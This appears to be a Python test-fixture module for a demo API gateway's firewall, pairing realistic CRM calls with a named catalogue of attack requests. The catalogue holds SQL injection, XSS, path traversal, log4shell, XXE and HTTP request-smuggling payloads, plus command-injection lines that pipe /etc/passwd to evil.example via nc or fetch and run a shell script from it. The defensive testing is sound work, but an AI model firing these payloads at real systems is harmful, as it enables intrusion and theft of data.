# SPDX-License-Identifier: Apache-2.0
"""What callers of the demo really send, and what attackers send: the two lists that a firewall must tell apart."""

import json
import random
from collections.abc import Iterator, Mapping, Sequence
from urllib.parse import quote

import msgspec

from gateway.demo.people import Customer
from tests.story.conftest import ANALYST, EMAIL, SUPPORT

JSON, MERGE, FORM = "application/json", "application/merge-patch+json", "application/x-www-form-urlencoded"
CITIES = ("武汉市", "呼和浩特市", "Sankt Pölten", "Saint-Jean-d'Angély", "Winston-Salem", "L'Haÿ-les-Roses", "Ağrı")
NAMES = (
    "陈浩然",
    "欧阳娜娜",
    "Seán O'Brien",
    "D'Arcy & Söhne",
    "Null, Jennifer",
    "Робот Иванович",
    "Anne-Marie Select",
)
NOTES = (
    "called back; wants the <new> price list & an offer",
    "客户说：请不要再打电话，谢谢！",
    "moved from 12 Union Street, select customers only",
    "asked: does 10% off = 0.9x? (yes)",
    "Insert into the mailing; then update the address where it is known.",
    "../ was in the subject line of the mail",
    "her dog's name is Script, his cat's Alert",
)
PASSWORDS = (
    "correct horse battery staple",
    "x' OR '1'='1' -- ",
    "<script>alert(1)</script>",
    "$(reboot); `id`",
    "密码 很长 的",
)


class Sent(msgspec.Struct, frozen=True, kw_only=True):
    """One call of a role for a purpose; without a role it is nobody's."""

    method: str = "GET"
    target: str
    role: str = ""
    purpose: str = ""
    headers: Mapping[str, str] = {}
    body: bytes | None = None


def reads(crowd: Sequence[Customer], surrogates: Sequence[str], n: int) -> Iterator[Sent]:
    """Yield so many reads as analysts, campaigners and agents make them; the same in every run."""
    chance = random.Random(4)
    for _ in range(n):
        person = chance.choice(crowd)
        limit = chance.randint(20, 40)
        yield chance.choice(
            [
                _asked(f"limit={limit}&sort=-city&country=DE", "analyst", ANALYST),
                _asked(f"limit={limit}&city={quote(chance.choice(CITIES))}", "analyst", ANALYST),
                _asked(f"ids={quote(','.join(chance.sample(surrogates, 20)))}&limit=50", "analyst", ANALYST),
                _asked(f"limit={limit}&fields=id,email,phone", "analyst", ANALYST, Accept="text/csv; formulas=escaped"),
                _asked(f"job={quote('blue-collar')}&limit={limit}", "campaigner", EMAIL, Accept="application/x-ndjson"),
                _asked(f"limit={limit}", "analyst", ANALYST, Traceparent=f"00-{'4f' * 16}-{'9d' * 8}-01"),
                _asked(f"email={quote(person.email or 'a.b@example.org')}", "service-agent", SUPPORT),
                _asked(f"phone={quote('+49 1512 3456789')}", "service-agent", SUPPORT),
                Sent(target=f"/crm/customers/{person.id}", role="service-agent", purpose=SUPPORT),
                Sent(target=f"/crm/customers/{chance.choice(surrogates)}", role="analyst", purpose=ANALYST),
                Sent(target="/crm/contacts?limit=30&channel=email", role="analyst", purpose=ANALYST),
                Sent(target="/shop/orders?limit=30&currency=EUR", role="service-agent", purpose=SUPPORT),
                _searched({"where": {"country": ["DE", "CN"], "job": ["admin."]}, "page": {"limit": limit}}),
                _searched(
                    {"where": {"city": chance.choice(CITIES)}, "page": {"limit": 20, "offset": 5}, "sort": ["-city"]}
                ),
                _searched({"ids": chance.sample(surrogates, 40)}, "batch"),
            ]
        )


def _asked(query: str, role: str, purpose: str, **headers: str) -> Sent:
    return Sent(target=f"/crm/customers?{query}", role=role, purpose=purpose, headers=headers)


def _searched(content: object, what: str = "search") -> Sent:
    body = json.dumps(content, ensure_ascii=False).encode()
    return Sent(
        method="POST", target=f"/crm/customers/{what}", role="analyst", purpose=ANALYST, headers={"Content-Type": JSON},
        body=body,
    )  # fmt: skip


def writes() -> Iterator[Sent]:
    """Yield what agents write down: names, cities and notes as people are called and speak."""
    for number, (name, city, note) in enumerate(zip(NAMES, CITIES, NOTES, strict=True)):
        path = f"/crm/customers/c-{150 + number:06}"
        yield _written("PATCH", path, {"name": name, "city": city, "notes": note}, MERGE)
        yield _written("POST", "/crm/customers", {"name": name, "city": city, "email": f"p{number}@example.org"})
    contacts = [
        {"id": f"n-{n}", "customer_id": f"c-00015{n % 10}", "channel": "phone", "duration_s": 60, "outcome": "answered"}
        for n in range(400)
    ]
    yield _written("POST", "/crm/contacts/bulk", contacts)
    yield Sent(method="DELETE", target="/crm/customers/c-000160", role="service-agent", purpose=SUPPORT)


def _written(method: str, path: str, content: object, media: str = JSON) -> Sent:
    headers = {"Content-Type": media, **({"Idempotency-Key": f"k/{path}"} if method != "POST" else {})}
    body = json.dumps(content, ensure_ascii=False).encode()
    return Sent(method=method, target=path, role="service-agent", purpose=SUPPORT, headers=headers, body=body)


def own() -> Iterator[Sent]:
    """Yield calls to the gateway itself: health, keys, sign-ins with any password, bearers for services."""
    for path in ("/-/livez", "/-/readyz", "/-/jwks.json", "/-/problems/purpose-missing", "/.well-known/nothing"):
        yield Sent(target=path)
    yield Sent(target="/-/me", role="analyst")
    yield Sent(target="/-/livez", headers={"User-Agent": "python-requests/2.32.3", "Accept": "*/*"})
    for password in PASSWORDS:
        yield _told("/-/login", {"username": "chloé@example.org", "password": password})
    yield _told("/-/login/totp", {"login": "A9-_" * 11, "code": "123456"})
    yield _told("/-/login/refresh", {"refresh_token": "Zm9v-_" * 12})
    yield Sent(
        method="POST", target="/-/oauth/token", body=b"grant_type=client_credentials",
        headers={"Content-Type": FORM, "Authorization": "Basic cmVwb3J0czpzM2NyZXQtLScgb3IgMT0x"},
    )  # fmt: skip
    yield Sent(
        method="POST", target="/-/oauth/token", headers={"Content-Type": FORM},
        body=b"grant_type=client_credentials&client_id=reports&client_secret=" + quote(PASSWORDS[1]).encode(),
    )  # fmt: skip
    question = {
        "action": {"name": "read"},
        "resource": {
            "type": "dataset",
            "id": "crm.customers",
            "properties": {"fields": ["city"], "filters": ["country"]},
        },
        "context": {"purpose": ANALYST},
    }
    yield Sent(
        method="POST", target="/-/access/v1/evaluation", role="analyst", purpose=ANALYST, headers={"Content-Type": JSON},
        body=json.dumps(question).encode(),
    )  # fmt: skip


def _told(path: str, content: object) -> Sent:
    body = json.dumps(content, ensure_ascii=False).encode()
    return Sent(method="POST", target=path, headers={"Content-Type": JSON}, body=body)


def _query(value: str) -> Sent:
    return _asked(f"city={quote(value, safe='')}", "analyst", ANALYST)


ATTACKS: dict[str, tuple[Sent, str]] = {
    "tautology": (_query("x' OR '1'='1' --"), "sql"),
    "union": (_query("1 UNION SELECT password FROM users"), "sql"),
    "stacked statement": (_query("1; DROP TABLE customers; --"), "sql"),
    "blind by time": (_query("1' AND SLEEP(5)#"), "sql"),
    "blind by function": (_query("1 AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))"), "sql"),
    "tautology in a search": (_searched({"where": {"city": "x' OR 1=1 --"}}), "sql"),
    "union in a list of a body": (_searched({"ids": ["sv1_abc", "1' UNION SELECT * FROM people --"]}, "batch"), "sql"),
    "script": (_query("<script>alert(document.cookie)</script>"), "script"),
    "script by event": (_query('"><img src=x onerror=alert(1)>'), "script"),
    "script by address": (_query("javascript:alert(1)"), "script"),
    "script in a write": (
        _written("PATCH", "/crm/customers/c-000150", {"name": "<svg/onload=fetch('//evil.example/')>"}, MERGE), "script",
    ),
    "traversal in a query": (_query("../../../../etc/passwd"), "traversal"),
    "traversal, twice escaped": (_asked("city=..%252f..%252f..%252fetc%252fpasswd", "analyst", ANALYST), "traversal"),
    "traversal in a path": (Sent(target="/crm/customers/%2e%2e/%2e%2e/etc/shadow"), "traversal"),
    "a file of the system": (Sent(target="/.git/config"), "traversal"),
    "environment file": (Sent(target="/crm/.env"), "traversal"),
    "command": (_query("; cat /etc/passwd | nc evil.example 9"), "command"),
    "command by substitution": (_query("$(curl http://evil.example/x.sh|sh)"), "command"),
    "shellshock": (Sent(target="/crm/customers", headers={"User-Agent": "() { :;}; /bin/bash -c id"}), "command"),
    "log4shell": (Sent(target="/crm/customers", headers={"X-Api-Version": "${jndi:ldap://evil.example/a}"}), "java"),
    "a file from elsewhere": (_query("http://10.0.0.1/shell.php?cmd=id"), "remote-file"),
    "php": (_query("<?php system($_GET['c']); ?>"), "php"),
    "code for node": (_query("require('child_process').exec('id')"), "php"),
    "java object": (_query("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ java.lang.Runtime"), "java"),
    "scanner sqlmap": (Sent(target="/", headers={"User-Agent": "sqlmap/1.8.2#stable (https://sqlmap.org)"}), "scanner"),
    "scanner nikto": (Sent(target="/", headers={"User-Agent": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)"}), "scanner"),
    "scanner nuclei": (Sent(target="/", headers={"User-Agent": "Nuclei - Open-source project"}), "scanner"),
    "response splitting": (_query("x\r\nSet-Cookie: a=b"), "smuggling"),
    "request in a query": (_query("x\r\n\r\nGET /-/metrics HTTP/1.1"), "smuggling"),
    "method of another house": (Sent(method="PROPFIND", target="/crm/customers"), "method"),
    "form that is a file": (
        Sent(
            method="POST", target="/crm/customers", headers={"Content-Type": "multipart/form-data; boundary=x"},
            body=b'--x\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php ?>\r\n--x--\r\n',
        ),
        "protocol",
    ),
    "xml": (
        Sent(
            method="POST", target="/crm/customers/search", headers={"Content-Type": "application/xml"},
            body=b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        ),
        "protocol",
    ),
    "body that is no json": (
        Sent(method="POST", target="/crm/customers/search", headers={"Content-Type": JSON}, body=b'{"where": {"city": '),
        "body",
    ),
    "zero byte": (_asked("city=a%00b", "analyst", ANALYST), "protocol"),
    "packed body": (
        Sent(
            method="POST", target="/crm/customers/search", body=b"\x1f\x8b",
            headers={"Content-Type": JSON, "Content-Encoding": "gzip"},
        ),
        "body",
    ),
}  # fmt: skip
"""By name: the call, and what the alert calls it."""

SMUGGLED: dict[str, bytes] = {
    "length and chunks": b"POST / HTTP/1.1\r\nHost: {h}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET",
    "two lengths": b"POST / HTTP/1.1\r\nHost: {h}\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\nGET /-/me HTTP/1.1",
    "chunks, twice": b"POST / HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n",
    "chunks in disguise": b"POST / HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "length with a sign": b"POST / HTTP/1.1\r\nHost: {h}\r\nContent-Length: +4\r\n\r\nabcd",
    "two hosts": b"GET / HTTP/1.1\r\nHost: {h}\r\nHost: evil.example\r\n\r\n",
    "no host": b"GET / HTTP/1.1\r\nAccept: */*\r\n\r\n",
    "climbing out": b"GET /../../etc/passwd HTTP/1.1\r\nHost: {h}\r\n\r\n",
    "a head without an end": b"GET / HTTP/1.1\r\nHost: {h}\r\nX: " + b"a" * 20_000 + b"\r\n\r\n",
    "a target without an end": b"GET /" + b"a" * 20_000 + b" HTTP/1.1\r\nHost: {h}\r\n\r\n",
    "no http": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    "a mirror": b"TRACE /crm/customers HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n",
    "a path that ends inside an escape": b"GET /crm/% HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n",
    "climbing out, escaped": b"GET /crm/customers/..%2f..%2f..%2fetc%2fshadow HTTP/1.1\r\nHost: {h}\r\n\r\n",
    "old http": b"GET / HTTP/1.0\r\nHost: {h}\r\n\r\n",
    "chunks": b"POST /crm/customers/search HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
}
"""By name: bytes that nginx itself does not take; ``{h}`` is the server's name."""
